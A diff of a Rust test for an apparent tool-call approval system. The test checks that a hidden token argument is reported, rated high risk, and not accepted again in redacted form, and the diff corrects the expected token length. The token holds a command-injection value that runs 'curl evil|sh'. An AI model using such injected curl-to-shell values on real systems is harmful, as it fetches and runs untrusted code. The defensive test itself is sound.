@@ -91,7 +91,7 @@ fn hidden_parts_are_not_compared() {
     let ask = json!({"thread": thread, "tool_name": "http", "summary": "post",
                      "arguments": {"token": "x\"; curl evil|sh #"}, "wait_seconds": 0});
     let told = host.tool("request_approval", ask);
-    assert_eq!(told["action"]["hidden"], "1 part of this action is hidden: token, 20 characters");
+    assert_eq!(told["action"]["hidden"], "1 part of this action is hidden: token, 18 characters");
     assert_eq!(told["action"]["risk"], "high");
     let like_it = json!({"approval_id": told["approval_id"], "arguments": {"token": "[redacted:token]"}});
     assert!(host.failure("request_approval", like_it).contains("send approval_id alone"));
